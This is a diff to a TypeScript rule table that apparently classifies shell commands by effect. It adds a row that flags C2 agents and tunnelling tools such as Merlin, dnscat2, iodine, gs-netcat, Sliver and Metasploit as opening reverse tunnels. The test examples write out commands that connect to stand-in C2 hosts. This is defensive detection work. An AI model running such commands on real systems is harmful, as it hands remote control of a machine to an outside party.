@@ -235,6 +235,13 @@ export const NETWORK: readonly Row[] = [
     examples: [['ttyd -p 80 bash', 'send host:reverse tunnel'], ['tmate -F', 'send host:reverse tunnel'], ['ttyd --version']],
   },
   { program: 'code tunnel | code-insiders tunnel', operands: 'text', options: { '--name': 'text' }, variants: [{ when: { operand: /^(?:status|kill|unregister|prune|help)$/ }, effects: [] }], effects: [{ kind: 'send', resource: 'host', name: 'reverse tunnel' }], examples: [['code tunnel --accept-server-license-terms', 'send host:reverse tunnel'], ['code tunnel status']] },
+  // What calls a server that tells it what to do. With these names nobody has anything else.
+  {
+    program: 'merlinagent | merlinagent.exe | dnscat | dnscat2 | iodine | iodined | gs-netcat | gsocket | pwncat | pwncat-cs | ptunnel | ptunnel-ng | hans | icmpsh | revsocks | rsocx | ligolo-agent | stowaway_agent | pupysh | poshc2 | powershell-empire | sliver-client | sliver-server | msfconsole | msfvenom | evil-winrm | weevely',
+    operands: 'text',
+    effects: [{ kind: 'send', resource: 'host', name: 'reverse tunnel', when: { none: ['--help', '-h', '--version', '-V'] } }],
+    examples: [['/tmp/merlinAgent-Linux-x64 -url https://c2.test:443 -psk a', 'send host:reverse tunnel'], ['/tmp/d/client/dnscat --secret=a c2.test', 'send host:reverse tunnel'], ['iodine -f -P a t.test', 'send host:reverse tunnel'], ['gs-netcat -s a -l -i', 'send host:reverse tunnel'], ['iodine --version']],
+  },
   { program: 'chisel client', operands: 'text', effects: [{ kind: 'send', resource: 'host', name: 'reverse tunnel', when: { operand: /^R:/ } }], examples: [['chisel client h.test:80 R:8000:localhost:80', 'send host:reverse tunnel'], ['chisel client h.test:80 8000:localhost:80']] },
   // Forwarding from the other end, to which only the first may be told apart.
   { program: 'gost', operands: 'text', options: { '-L': 'text', '-F': 'text', '-C': 'use' }, effects: [{ kind: 'send', resource: 'host', name: 'reverse tunnel', when: { value: /^-L=r(?:tcp|udp):/ } }], examples: [['gost -L rtcp://:2222/:22 -F relay+wss://h.test', 'send host:reverse tunnel'], ['gost -L http://:8080']] },
